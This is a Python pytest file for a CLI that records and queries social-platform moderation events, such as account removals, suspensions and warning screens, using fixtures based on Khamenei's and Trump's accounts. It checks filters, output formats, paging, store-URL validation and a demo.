"""The read side through the CLI: filters, ordering, output formats, replay, and
the commands around them (init, demo, help, actor).
"""

from __future__ import annotations

import csv
import getpass
import io
import json
import os
import re
import subprocess
import sys
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from cli.main import cli
from tests.conftest import Store
from tests.ledger_helpers import (
    CLI,
    REPO,
    SEED_EVENTS,
    account,
    cli_process,
    ev,
    export,
    jsonl,
    last_recorded_at,
    parse_table,
    reject,
    subject,
)

IG = "instagram:khamenei_ir"
FB = "facebook:khamenei.ir"
X_KH = "twitter:khamenei_ir"
X_DT = "twitter:realDonaldTrump"
X_OTHER = "twitter:bystander"
DOI = "Dangerous Organisations and Individuals"

READ_COMMANDS = [
    ("status", X_KH),
    ("accounts",),
    ("timeline",),
    ("export",),
]


@pytest.fixture
def world(store: Store) -> Store:
    """A small cross-platform world, recorded by three actors, partly backfilled."""
    store.append(
        subject("khamenei", "2019-01-01", event_id="subj-kh"),
        subject("donald_trump", "2019-01-01", event_id="subj-dt"),
        account(IG, "2024-02-01", subject="khamenei", event_id="reg-ig"),
        account(FB, "2024-02-01", subject="khamenei", event_id="reg-fb"),
        account(X_KH, "2023-10-01", subject="khamenei", event_id="reg-xkh"),
        account(X_DT, "2020-01-01", subject="donald_trump", event_id="reg-xdt"),
        account(X_OTHER, "2020-01-01", event_id="reg-other"),
    )
    store.ok(
        "append",
        "--actor",
        "alice",
        "-",
        input=jsonl(
            ev("account_removed", "2024-02-08", account=IG, policy=DOI, event_id="rm-ig"),
            ev("account_removed", "2024-02-08", account=FB, policy=DOI, event_id="rm-fb"),
            ev("followers_observed", "2024-02-08", account=IG, count=200000, event_id="f-ig"),
        ),
    )
    store.ok(
        "append",
        "-",
        input=jsonl(
            ev("post_published", "2023-10-07", account=X_KH, post="oct7", event_id="pub"),
            ev(
                "post_warning_screen_applied",
                "2023-10-09",
                account=X_KH,
                post="oct7",
                policy="X Rules",
                reason="public interest",
                exception="public_interest",
                event_id="scr",
            ),
            ev("followers_observed", "2024-02-09", account=X_KH, count=1000000, event_id="f-x"),
        ),
        env={"ENFORCEMENT_LEDGER_ACTOR": "bob"},
    )
    # Backfilled last, occurred first.
    store.append(
        ev(
            "account_suspended",
            "2021-01-08T16:00:00Z",
            account=X_DT,
            policy="Glorification of Violence",
            event_id="susp-dt",
        ),
        ev("platform_renamed", "2023-07-23", platform="twitter", name="X", event_id="rename"),
    )
    return store


def ids(events: list[dict[str, Any]]) -> list[str]:
    return [e["event_id"] for e in events]


def nl(store: Store, *args: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in store.ok(*args, "--nl").stdout.splitlines()]


# --- accounts -----------------------------------------------------------------


def test_accounts_lists_every_account_in_order(world: Store) -> None:
    rows = nl(world, "accounts")
    assert [r["account"] for r in rows] == sorted([IG, FB, X_KH, X_DT, X_OTHER])
    statuses = {r["account"]: r["status"] for r in rows}
    assert statuses == {
        IG: "removed",
        FB: "removed",
        X_KH: "active",
        X_DT: "suspended",
        X_OTHER: "active",
    }


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (("--platform", "twitter"), [X_OTHER, X_KH, X_DT]),
        (("--platform", "instagram"), [IG]),
        (("--subject", "khamenei"), [FB, IG, X_KH]),
        (("--subject", "donald_trump"), [X_DT]),
        (("--status", "removed"), [FB, IG]),
        (("--status", "suspended"), [X_DT]),
        (("--status", "restricted"), []),
        (("--subject", "khamenei", "--status", "active"), [X_KH]),
        (("--platform", "twitter", "--status", "active"), [X_OTHER, X_KH]),
        (("--platform", "tiktok"), []),
    ],
)
def test_accounts_filters(world: Store, filters: tuple[str, ...], expected: list[str]) -> None:
    assert [r["account"] for r in nl(world, "accounts", *filters)] == sorted(expected)


def test_accounts_status_filter_is_a_choice(world: Store) -> None:
    reject(
        world,
        "accounts",
        "--status",
        "banned",
        code=2,
        expect=("Invalid value for '--status': 'banned' is not one of",),
    )


def test_accounts_rows_are_full_status_documents(world: Store) -> None:
    (row,) = nl(world, "accounts", "--platform", "instagram")
    assert row == world.status(IG, "--as-of", row["as_of"], "--known-at", row["known_at"])
    assert row["followers"] == 200000
    assert row["policy"] == DOI


def test_accounts_on_an_empty_ledger(store: Store) -> None:
    result = store.ok("accounts")
    assert result.stdout == ""
    assert result.stderr == "(no accounts)\n"


# --- timeline filters -----------------------------------------------------------


def test_timeline_is_ordered_by_occurred_at_then_sequence(world: Store) -> None:
    events = world.timeline()
    keys = [(e["occurred_at"], e["sequence"]) for e in events]
    assert keys == sorted(keys)
    assert len(events) == world.count()
    # The backfilled suspension was recorded last but comes early.
    assert events.index(next(e for e in events if e["event_id"] == "susp-dt")) == 4
    # Same instant: recording order decides.
    same_day = [e["event_id"] for e in events if e["occurred_at"] == "2024-02-08T00:00:00Z"]
    assert same_day == ["rm-ig", "rm-fb", "f-ig"]


def test_timeline_events_carry_ledger_fields(world: Store) -> None:
    for event in world.timeline():
        assert {"sequence", "recorded_at", "actor", "retracted", "event_id", "type"} <= set(event)
        assert event["retracted"] is False


def test_timeline_by_account(world: Store) -> None:
    assert ids(world.timeline("--account", X_KH)) == ["reg-xkh", "pub", "scr", "f-x"]
    assert world.timeline("--account", "twitter:nobody") == []


def test_timeline_by_subject_includes_its_accounts(world: Store) -> None:
    assert ids(world.timeline("--subject", "khamenei")) == [
        "subj-kh",
        "reg-xkh",
        "pub",
        "scr",
        "reg-ig",
        "reg-fb",
        "rm-ig",
        "rm-fb",
        "f-ig",
        "f-x",
    ]
    assert ids(world.timeline("--subject", "donald_trump")) == ["subj-dt", "reg-xdt", "susp-dt"]


def test_a_retracted_registration_no_longer_ties_its_account_to_the_subject(
    store: Store,
) -> None:
    """Re-registered to another subject, an account's events count under that one only
    (as `accounts --subject` answers), from the retraction's record time on."""
    store.append(
        subject("s1", event_id="subj-s1"),
        subject("s2", event_id="subj-s2"),
        account("twitter:acc", subject="s1", event_id="r1"),
        ev("account_suspended", "2022-01-01", account="twitter:acc", policy="p", event_id="su1"),
    )
    before = last_recorded_at(store)
    store.append(
        ev("event_retracted", "2023-01-01", target="su1", reason="wrong", event_id="x0"),
        ev("event_retracted", "2023-01-01", target="r1", reason="wrong", event_id="x1"),
        account("twitter:acc", subject="s2", event_id="r2"),
        ev("account_suspended", "2022-01-01", account="twitter:acc", policy="p", event_id="su2"),
    )
    # The retracted registration still names s1, so it stays in s1's timeline, marked,
    # with its retraction (listed under its target's account and subject).
    assert [(e["event_id"], e["retracted"]) for e in store.timeline("--subject", "s1")] == [
        ("subj-s1", False),
        ("r1", True),
        ("x1", False),
    ]
    # s2's account brings its whole history, the retracted first registration included.
    assert ids(store.timeline("--subject", "s2")) == [
        *("subj-s2", "r1", "r2", "su1", "su2", "x0", "x1")
    ]
    for holder, count in (("s1", 0), ("s2", 1)):
        counted = store.ok("counts", "--subject", holder, "--type", "account_suspended", "--json")
        assert json.loads(counted.stdout) == [{"count": count}]
    # Known at before the retraction: the first registration, and its events, count for s1.
    assert ids(store.timeline("--subject", "s1", "--known-at", before)) == [
        "subj-s1",
        "r1",
        "su1",
    ]


def test_timeline_by_platform(world: Store) -> None:
    twitter = world.timeline("--platform", "twitter")
    assert {e["event_id"] for e in twitter} == {
        "reg-xkh",
        "reg-xdt",
        "reg-other",
        "susp-dt",
        "rename",
        "pub",
        "scr",
        "f-x",
    }
    assert ids(world.timeline("--platform", "facebook")) == ["reg-fb", "rm-fb"]


def test_timeline_by_repeated_type(world: Store) -> None:
    events = world.timeline("--type", "account_removed", "--type", "account-suspended")
    assert ids(events) == ["susp-dt", "rm-ig", "rm-fb"]


def test_timeline_unknown_type_is_a_usage_error(world: Store) -> None:
    reject(
        world,
        "timeline",
        "--type",
        "account_banned",
        code=2,
        expect=(
            "Invalid value for --type: unknown type 'account_banned'; expected one of: ",
            "event_retracted",
        ),
    )
    for given in ("account_remove", "Account-Removed"):
        reject(
            world,
            "counts",
            "--type",
            given,
            code=2,
            expect=("(did you mean 'account_removed'?); expected one of: ",),
        )


def test_timeline_by_policy_is_exact(world: Store) -> None:
    assert ids(world.timeline("--policy", DOI)) == ["rm-ig", "rm-fb"]
    assert world.timeline("--policy", "Dangerous") == []


def test_timeline_by_actor(world: Store) -> None:
    assert ids(world.timeline("--actor", "alice")) == ["rm-ig", "rm-fb", "f-ig"]
    assert ids(world.timeline("--actor", "bob")) == ["pub", "scr", "f-x"]
    assert {e["actor"] for e in world.timeline("--actor", "tester")} == {"tester"}


def test_timeline_time_range_is_inclusive(world: Store) -> None:
    events = world.timeline("--since", "2023-10-07", "--until", "2024-02-08T00:00:00Z")
    assert ids(events) == ["pub", "scr", "reg-ig", "reg-fb", "rm-ig", "rm-fb", "f-ig"]
    assert ids(world.timeline("--until", "2020-01-01")) == [
        "subj-kh",
        "subj-dt",
        "reg-xdt",
        "reg-other",
    ]
    assert ids(world.timeline("--since", "2024-02-09")) == ["f-x"]
    assert ids(world.timeline("--since", "2024-02-08", "--until", "2024-02-08")) == [
        "rm-ig",
        "rm-fb",
        "f-ig",
    ]


def test_timeline_until_a_date_includes_that_whole_day(world: Store) -> None:
    world.append(
        ev(
            "post_published",
            "2024-02-08T23:59:59.999999Z",
            account=X_KH,
            post="late",
            event_id="late",
        ),
        ev("post_published", "2024-02-09T00:00:00Z", account=X_KH, post="next", event_id="next"),
    )
    day = world.timeline("--since", "2024-02-08", "--until", "2024-02-08")
    assert ids(day) == ["rm-ig", "rm-fb", "f-ig", "late"]
    # A full time is the exact bound: its own instant and nothing after it.
    assert ids(world.timeline("--since", "2024-02-08", "--until", "2024-02-08T00:00:00Z")) == [
        "rm-ig",
        "rm-fb",
        "f-ig",
    ]
    assert "next" in ids(world.timeline("--until", "9999-12-31"))


def test_timeline_range_running_backwards_is_a_usage_error(world: Store) -> None:
    reject(
        world,
        "timeline",
        "--since",
        "2024-02-09",
        "--until",
        "2024-02-08T23:59:59Z",
        code=2,
        expect=("--since 2024-02-09 is later than --until 2024-02-08T23:59:59Z",),
    )


def test_timeline_filters_combine(world: Store) -> None:
    events = world.timeline(
        "--subject", "khamenei", "--platform", "instagram", "--type", "followers_observed"
    )
    assert ids(events) == ["f-ig"]


@pytest.mark.parametrize(
    ("window", "selection"),
    [
        (("--limit", "3"), slice(0, 3)),
        (("--limit", "3", "--offset", "2"), slice(2, 5)),
        (("--offset", "10"), slice(10, None)),
        (("--limit", "0"), slice(0, 0)),
        (("--offset", "100"), slice(100, None)),
    ],
)
def test_timeline_paging(world: Store, window: tuple[str, ...], selection: slice) -> None:
    everything = world.timeline()
    assert world.timeline(*window) == everything[selection]


def test_timeline_negative_limit_is_a_usage_error(world: Store) -> None:
    reject(world, "timeline", "--limit", "-1", code=2, expect=("Invalid value for '--limit'",))
    # Python's int() reads these too; a row count is plain digits.
    for given in ("1_000", " 5", "\u0665", "+3"):
        reject(
            world, "timeline", "--limit", given, code=2,
            expect=(f"expected a whole number from 0 to {2**63 - 1}, given {given!r}",),
        )  # fmt: skip


def test_row_counts_beyond_64_bits_are_usage_errors_and_the_largest_works(world: Store) -> None:
    # 10**20 reached the driver and failed there (an internal failure, exit 70).
    largest = str(2**63 - 1)
    for command, option in (
        ("timeline", "--limit"),
        ("timeline", "--offset"),
        ("counts", "--limit"),
    ):
        reject(
            world, command, option, str(10**20), code=2, expect=(f"Invalid value for '{option}'",)
        )
        world.ok(command, option, largest)
    assert world.timeline("--limit", largest) == world.timeline()
    assert world.timeline("--offset", largest) == []


# --- output formats -----------------------------------------------------------------


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_status_formats(world: Store) -> None:
    moment = ("--as-of", "2024-03-01", "--known-at", "2099-01-01")
    document = json.loads(world.ok("status", IG, "--json", *moment).stdout)
    assert world.ok("status", IG, "--json", *moment).stdout.startswith("{\n  ")
    (line,) = world.ok("status", IG, "--nl", *moment).stdout.splitlines()
    assert json.loads(line) == document
    header, row = read_csv(world.ok("status", IG, "--csv", *moment).stdout)
    assert header == list(document)
    assert dict(zip(header, row, strict=True))["status"] == "removed"
    assert dict(zip(header, row, strict=True))["followers"] == "200000"
    table = world.ok("status", IG, *moment).stdout
    assert "status:       removed\n" in table
    assert f"policy:       {DOI}\n" in table
    assert "exemptions:   none\n" in table


def test_accounts_formats(world: Store) -> None:
    moment = ("--as-of", "2024-03-01", "--known-at", "2099-01-01")
    rows = json.loads(world.ok("accounts", "--json", *moment).stdout)
    assert isinstance(rows, list)
    assert len(rows) == 5
    assert nl(world, "accounts", *moment) == rows
    table = read_csv(world.ok("accounts", "--csv", *moment).stdout)
    assert table[0] == list(rows[0])
    assert [r[0] for r in table[1:]] == [r["account"] for r in rows]
    table_rows = parse_table(world.ok("accounts", *moment).stdout)
    assert [(r["account"], r["status"]) for r in table_rows] == [
        (r["account"], r["status"]) for r in rows
    ]
    assert {r["account"]: r["followers"] for r in table_rows}[IG] == "200000"


def test_timeline_formats(world: Store) -> None:
    events = json.loads(world.ok("timeline", "--json").stdout)
    assert events == world.timeline()
    table = read_csv(world.ok("timeline", "--csv").stdout)
    header = table[0]
    assert header[:4] == ["sequence", "event_id", "type", "occurred_at"]
    assert header[-1] == "retracted"
    assert {"recorded_at", "actor", "account", "subject", "policy", "count"} <= set(header)
    assert len(table) == 1 + len(events)
    for row, event in zip(table[1:], events, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["event_id"] == event["event_id"]
        assert cells["sequence"] == str(event["sequence"])
        assert cells["retracted"] == "false"
    table_rows = parse_table(world.ok("timeline").stdout)
    assert [(r["sequence"], r["event_id"], r["type"], r["retracted"]) for r in table_rows] == [
        (str(e["sequence"]), e["event_id"], e["type"], "no") for e in events
    ]  # the id a retraction or an appeal names, in the table people read too


def test_timeline_rows_name_what_the_filters_matched(world: Store) -> None:
    world.append(ev("event_retracted", "2024-03-01", target="rm-fb", reason="wrong", event_id="x"))
    rows = read_csv(world.ok("timeline", "--platform", "instagram", "--csv").stdout)
    header, body = rows[0], rows[1:]
    column = header.index("platform")
    assert [(r[header.index("event_id")], r[column]) for r in body] == [
        ("reg-ig", "instagram"),
        ("rm-ig", "instagram"),
        ("f-ig", "instagram"),
    ]
    # A retraction is listed under its target's account, and says so.
    retraction = world.timeline("--account", FB)[-1]
    assert retraction["type"] == "event_retracted"
    assert (retraction["account"], retraction["platform"]) == (FB, "facebook")
    # An account's events name the subject its registration names, as known then.
    assert retraction["subject"] == "khamenei"
    assert {r[header.index("subject")] for r in body} == {"khamenei"}
    assert {e.get("subject") for e in world.timeline("--account", X_DT)} == {"donald_trump"}
    # The stored events are unchanged: an account event names no platform or subject.
    stored = {e["event_id"]: e for e in export(world)}
    assert "platform" not in stored["rm-ig"]
    assert "subject" not in stored["rm-ig"]
    assert "account" not in stored["x"]


def test_an_account_events_subject_is_its_registrations_as_known_then(world: Store) -> None:
    world.append(ev("followers_observed", "2024-03-01", account=X_OTHER, count=5, event_id="f"))
    assert "subject" not in world.timeline("--account", X_OTHER)[-1]  # registered to none
    before = export(world)[-1]["recorded_at"]
    # Registered to the wrong subject: retracted and registered again, to the right one.
    world.append(
        ev("event_retracted", "2024-03-02", target="reg-other", reason="wrong", event_id="r"),
        account(X_OTHER, "2020-01-01", subject="donald_trump", event_id="reg-other-2"),
    )
    now = {e["event_id"]: e.get("subject") for e in world.timeline("--account", X_OTHER)}
    assert now == {"reg-other": None, "reg-other-2": "donald_trump", "f": "donald_trump",
                   "r": "donald_trump"}  # fmt: skip
    then = world.timeline("--account", X_OTHER, "--known-at", before)
    assert [e.get("subject") for e in then] == [None, None]
    # A subject's timeline lists them under it, as `counts --by subject` counts them.
    assert "f" in {e["event_id"] for e in world.timeline("--subject", "donald_trump")}


def test_a_long_answer_names_each_events_subject_as_a_short_one_does(world: Store) -> None:
    """A long answer joins every account's registration once (SQLite), a short one (a
    small --limit) looks each row's up: the two agree, before and after a
    re-registration."""
    world.append(ev("followers_observed", "2024-03-01", account=X_OTHER, count=5, event_id="f"))
    before = export(world)[-1]["recorded_at"]
    world.append(
        ev("event_retracted", "2024-03-02", target="reg-other", reason="wrong", event_id="r"),
        account(X_OTHER, "2020-01-01", subject="donald_trump", event_id="reg-other-2"),
    )
    short = ("--limit", "10000")  # queries._LONG: read per row
    for known in (("--known-at", before), ()):
        whole = world.timeline(*known)
        assert whole == world.timeline(*known, *short)
        subjects = {e["event_id"]: e.get("subject") for e in whole}
        assert subjects["f"] == (None if known else "donald_trump")
        assert subjects["rm-ig"] == subjects["f-x"] == "khamenei"
        # Counts read every row whatever their --limit: on SQLite always the join,
        # checked here against the counts it must give.
        counted = nl(world, "counts", "--by", "subject", *known)
        assert {"subject": "donald_trump", "count": 3 if known else 6} in counted
        assert {"subject": "khamenei", "count": 10} in counted
        assert {"subject": None, "count": 3 if known else 1} in counted


def test_a_policy_or_actor_no_event_has_is_noted_with_what_was_meant(world: Store) -> None:
    # Exact text filters: a US spelling of Meta's policy counted 0, silently.
    us = "Dangerous Organizations and Individuals"
    for command in ("timeline", "counts"):
        result = world.ok(command, "--policy", us)
        assert result.stderr.startswith(
            f"note: no event in this ledger has policy {us!r}; did you mean {DOI!r}?\n"
        )
        assert "note:" not in world.ok(command, "--policy", DOI).stderr
    assert world.ok("timeline", "--actor", "ALICE").stderr.startswith(
        "note: no event in this ledger has actor 'ALICE'; did you mean 'alice'?\n"
    )
    assert world.ok("timeline", "--actor", "nobody").stderr.startswith(
        "note: no event in this ledger has actor 'nobody'\n"
    )


def test_export_formats(world: Store) -> None:
    log = export(world)
    assert json.loads(world.ok("export", "--json").stdout) == log
    table = read_csv(world.ok("export", "--csv").stdout)
    assert table[0][:3] == ["sequence", "event_id", "type"]
    assert "retracted" not in table[0]
    assert [r[1] for r in table[1:]] == ids(log)
    table_rows = parse_table(world.ok("export").stdout)
    assert [(r["sequence"], r["event_id"]) for r in table_rows] == [
        (str(e["sequence"]), e["event_id"]) for e in log
    ]


def test_empty_outputs_are_still_valid(store: Store) -> None:
    assert json.loads(store.ok("timeline", "--json").stdout) == []
    assert json.loads(store.ok("export", "--json").stdout) == []
    assert json.loads(store.ok("accounts", "--json").stdout) == []
    assert read_csv(store.ok("export", "--csv").stdout)[0][0] == "sequence"
    assert store.ok("export", "--nl").stdout == ""


@pytest.mark.parametrize("command", READ_COMMANDS, ids=[c[0] for c in READ_COMMANDS])
@pytest.mark.parametrize("flags", [("--json", "--csv"), ("--nl", "--json"), ("--csv", "--nl")])
def test_conflicting_formats_are_a_usage_error(
    world: Store, command: tuple[str, ...], flags: tuple[str, str]
) -> None:
    reject(world, *command, *flags, code=2, expect=("Error: choose one output format: ",))


def test_export_nl_is_canonical_json_in_sequence_order(world: Store) -> None:
    lines = world.ok("export", "--nl").stdout.splitlines()
    for position, line in enumerate(lines):
        record = json.loads(line)
        canonical = json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        assert line == canonical
        assert record["sequence"] == position
    assert len(lines) == world.count() == 15


def test_export_nl_keeps_unicode_unescaped(store: Store) -> None:
    store.append(subject("khamenei", name="علی خامنه‌ای", event_id="s"))
    line = store.ok("export", "--nl").stdout
    assert "علی خامنه‌ای" in line
    assert "\\u" not in line


# --- stores --------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [("status", X_KH), ("accounts",), ("timeline",), ("export",), ("replay",), ("append", "-")],
    ids=lambda c: c[0],
)
def test_reading_a_missing_store_fails_and_points_to_init(
    bare_store: Store, command: tuple[str, ...]
) -> None:
    result = bare_store.run(*command, input="")
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: no ledger ")
    assert "enforcement-ledger init" in result.stderr
    if bare_store.kind == "sqlite":
        assert not Path(bare_store.url).exists(), "a read created the store"


@pytest.mark.parametrize("command", [("status", X_KH), ("init",)], ids=lambda c: c[0])
def test_a_store_file_that_is_not_a_database_is_a_clear_error(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    path = tmp_path / "notes.db"
    path.write_bytes(b"precious notes, not a ledger")
    result = CliRunner().invoke(cli, ["--store", str(path), *command])
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: ")
    assert str(path) in result.stderr
    assert path.read_bytes() == b"precious notes, not a ledger"


def test_a_store_that_is_a_directory_is_a_clear_error(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["--store", str(tmp_path), "status", X_KH])
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: ")
    assert str(tmp_path) in result.stderr


@pytest.mark.parametrize(
    ("url", "message"),
    [
        # Not a file path named "mysql:/x": a store kind this ledger does not have.
        ("mysql://localhost/ledger", "unsupported store URL scheme 'mysql'"),
        # Not dropped in silence (the connection would go without TLS).
        (
            "postgresql://postgres@127.0.0.1:5432/test?schema=s&sslmode=require",
            "the store URL's option 'sslmode' is not supported",
        ),
        # Not the first of two, silently.
        (
            "postgresql://postgres@127.0.0.1:5432/test?schema=a&schema=b",
            "the store URL gives ?schema= 2 times; give it once",
        ),
        # PostgreSQL cuts longer names silently: two long schema names could meet.
        (
            "postgresql://postgres@127.0.0.1:5432/test?schema=" + "s" * 64,
            f"schema '{'s' * 64}' is longer than PostgreSQL's 63-byte limit for names",
        ),
        # Was an internal failure (ValueError), and port 0 became 5432.
        ("postgresql://postgres@127.0.0.1:abc/test", "the store URL's port must be a number"),
        ("postgresql://postgres@127.0.0.1:99999/test", "the store URL's port must be a number"),
        ("postgresql://postgres@127.0.0.1:0/test", "the store URL's port must be a number"),
        # Was "the port must be a number, given '5433'".
        (
            "postgresql://postgres@127.0.0.1:5432,127.0.0.1:5433/test",
            "the store URL names several hosts (127.0.0.1:5432,127.0.0.1:5433); only one",
        ),
        # 62 bytes as given, 93 in lower case: init made a schema PostgreSQL cut short,
        # which every later command then failed to find (exit 70).
        (
            "postgresql://postgres@127.0.0.1:5432/test?schema=" + "\u023a" * 31,
            "schema '" + "\u023a" * 31 + "' (in lower case '" + "\u2c65" * 31 + "') is longer",
        ),
        # PostgreSQL's own names: was an internal failure (ReservedName).
        (
            "postgresql://postgres@127.0.0.1:5432/test?schema=PG_x",
            "schema 'PG_x' (in lower case 'pg_x'): names starting pg_ are PostgreSQL's own",
        ),
        ("postgresql://postgres@127.0.0.1:5432/test?schema=pg_temp", "schema 'pg_temp': names"),
        ("postgresql://postgres@127.0.0.1:5432/test?schema=1x", "schema '1x' must be letters"),
    ],
)
def test_a_store_url_is_used_whole_or_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["--store", url, "init"])
    assert result.exit_code == 2, result.output  # a usage error (ux19), not a store's failure
    assert f"\nError: Invalid value for --store: {message}" in result.stderr, result.stderr
    assert list(tmp_path.iterdir()) == []
    # The same from the environment, for a read command.
    env = {"ENFORCEMENT_LEDGER_STORE": url}
    result = CliRunner().invoke(cli, ["timeline"], env=env)
    assert result.exit_code == 2, result.output
    assert f"\nError: Invalid value for --store: {message}" in result.stderr, result.stderr
    # With the usage of the command --store belongs to (CliRunner names it cli), not the
    # subcommand's.
    assert result.stderr.startswith("Usage: cli [OPTIONS] COMMAND"), result.stderr


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://bob:s3cret@localhost/test?host=/var/run/pg&password=TOPSECRET",
        "postgresql://bob:s3cret@localhost/test?dbname=x&password=TOPSECRET",
        "postgresql://localhost/test?dbname=x&sslpassword=TOPSECRET&schema=s",
    ],
)
def test_a_url_rewritten_in_advice_repeats_no_other_option(url: str) -> None:
    """rv23: the URL suggested for ?host= or ?dbname= carried every other option,
    a ?password= or ?sslpassword= among them, in clear text."""
    from ledger.location import StoreError, StoreLocation

    with pytest.raises(StoreError) as refused:
        StoreLocation.parse(url)
    assert "TOPSECRET" not in str(refused.value)
    assert "s3cret" not in str(refused.value)
    assert str(refused.value).endswith(
        ("/test; or set PGHOST", "/x; or set PGDATABASE", "/x?schema=s; or set PGDATABASE")
    )


@pytest.mark.parametrize(
    ("url", "advice"),
    [
        (
            "postgresql://postgres@/test?host=/var/run/postgresql&schema=s",
            "give the host in the URL itself, a Unix socket's directory percent-encoded: "
            "postgresql://postgres@%2Fvar%2Frun%2Fpostgresql/test?schema=s; or set PGHOST",
        ),
        (
            "postgresql://postgres@127.0.0.1/test?port=5433",
            "give the port in the URL itself, after the host: "
            "postgresql://postgres@127.0.0.1:5433/test; or set PGPORT",
        ),
        (
            "postgresql://me:secret@[::1]:5432/test?schema=s&user=el_writer",
            "give the user in the URL itself, before the host: "
            "postgresql://el_writer:…@[::1]:5432/test?schema=s; or set PGUSER",
        ),
        (
            "postgresql://127.0.0.1:5432?dbname=test",
            "give the dbname as the URL's path: postgresql://127.0.0.1:5432/test; or set "
            "PGDATABASE",
        ),
        (
            "postgresql://postgres@127.0.0.1/test?password=secret",
            "give it in the URL's user part, percent-encoded: "
            "postgresql://user:PASSWORD@host/dbname; or in PGPASSWORD or ~/.pgpass",
        ),
    ],
)
def test_a_connection_part_given_as_an_option_is_pointed_to_its_place_in_the_url(
    url: str, advice: str
) -> None:
    """?host= was refused with advice for TLS settings ("give libpq settings through
    the environment, e.g. PGSSLMODE=require"), not where a host goes."""
    from urllib.parse import parse_qs, urlparse

    from ledger.location import StoreError, StoreLocation

    with pytest.raises(StoreError) as refused:
        StoreLocation.parse(url)
    option = next(name for name in parse_qs(urlparse(url).query) if name != "schema")
    assert str(refused.value) == (
        f"the store URL's option {option!r} is not supported: only ?schema= is read from "
        f"it; {advice}"
    )
    assert "secret" not in str(refused.value)


def test_a_schema_may_start_with_an_underscore_as_in_postgresql() -> None:
    from ledger.location import StoreLocation

    assert StoreLocation.parse("postgresql://p@h:5432/d?schema=_Ab1").schema == "_ab1"


def test_a_store_url_names_an_ipv6_host_in_brackets() -> None:
    from ledger.location import StoreLocation

    location = StoreLocation.parse("postgresql://postgres@[::1]:5433/my%20db?schema=s")
    assert (location.host, location.port, location.dbname) == ("::1", 5433, "my db")
    assert location.display == "postgresql://postgres@[::1]:5433/my db?schema=s"


def test_a_store_url_leaves_what_it_does_not_name_to_libpq_and_reads_a_socket_host(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from ledger.location import StoreLocation

    for name in ("PGHOST", "PGPORT", "PGUSER", "PGDATABASE"):
        monkeypatch.delenv(name, raising=False)
    bare = StoreLocation.parse("postgresql:///?schema=s")
    assert (bare.host, bare.port, bare.user, bare.dbname) == (None, None, None, None)
    monkeypatch.setenv("PGUSER", "alice")
    assert bare.display == "postgresql://alice@/alice?schema=s"  # libpq's defaults: a socket
    socket = StoreLocation.parse("postgresql://bob@%2Fvar%2Frun%2FPostgres/d?schema=s")
    assert (socket.host, socket.user) == ("/var/run/Postgres", "bob")
    assert socket.display == "postgresql://bob@%2Fvar%2Frun%2FPostgres:5432/d?schema=s"


def test_init_twice_is_harmless(store: Store) -> None:
    store.append(account(X_KH))
    again = store.ok("init")
    assert "already exists" in again.stdout
    assert "nothing changed" in again.stdout
    assert store.count() == 1
    assert store.status(X_KH)["status"] == "active"


def test_init_reports_creation(bare_store: Store) -> None:
    assert bare_store.ok("init").stdout.startswith("Created ledger at ")


# --- demo (its own SQLite file) -----------------------------------------------------


def test_demo_builds_the_story_and_shows_it(tmp_path: Path) -> None:
    path = tmp_path / "demo.db"
    result = CliRunner().invoke(cli, ["demo", "--store", str(path)])
    assert result.exit_code == 0, result.output
    out = result.stdout
    # As of the article's date, not "now": the article says nothing of what came after.
    header = "Cross-platform status on 9 Feb 2024, the article's date:"
    assert header in out
    assert "Khamenei's timeline:" in out
    status_text = out.split(header)[1].split("Khamenei's timeline:")[0]
    rows = {r["account"]: r for r in parse_table(status_text.strip("\n"))}
    assert {account: row["status"] for account, row in rows.items()} == {
        "instagram:khamenei_ir": "removed",
        "instagram:khamenei_fa": "removed",
        "facebook:khamenei.ir": "removed",
        "twitter:khamenei_ir": "active",
        "twitter:realDonaldTrump": "active",  # X reinstated him on 19 Nov 2022
    }
    assert rows["twitter:khamenei_ir"]["followers"] == "1000000"
    screened = "The post X kept behind a warning screen:"
    timeline_text = out.split("Khamenei's timeline:")[1].split(screened)[0]
    timeline = parse_table(timeline_text.strip("\n"))
    types = [r["type"] for r in timeline]
    assert "post_warning_screen_applied" in types
    assert "exemption_applied" in types
    assert types.count("account_removed") == 3
    assert all("realDonaldTrump" not in r.get("account", "") for r in timeline)
    banned = "Twitter on 9 Jan 2021, the day after it banned Trump:"
    trump = "Trump's Twitter account over time:"
    (post,) = parse_table(out.split(screened)[1].split(banned)[0].strip("\n"))
    assert (post["post"], post["state"], post["exception"]) == (
        "oct-7-praise",
        "warning_screen",
        "public_interest",
    )
    twitter = parse_table(out.split(banned)[1].split(trump)[0].strip("\n"))
    assert [(r["account"], r["status"], r["policy"]) for r in twitter] == [
        ("twitter:khamenei_ir", "active", ""),
        ("twitter:realDonaldTrump", "removed", "Glorification of Violence"),
    ]
    history = parse_table(out.split(trump)[1].split("Demo ledger:")[0].strip("\n"))
    assert [(p["status"], p["from"], p["to"]) for p in history] == [
        ("removed", "2021-01-08T00:00:00Z", "2022-11-19T00:00:00Z"),
        ("active", "2022-11-19T00:00:00Z", ""),
    ]
    assert path.exists()
    # The demo ledger is an ordinary store.
    again = CliRunner().invoke(cli, ["--store", str(path), "status", "twitter:khamenei_ir"])
    assert "status:       active" in again.stdout


def test_demo_refuses_an_existing_path(tmp_path: Path) -> None:
    path = tmp_path / "taken.db"
    path.write_bytes(b"precious")
    result = CliRunner().invoke(cli, ["demo", "--store", str(path)])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: ")
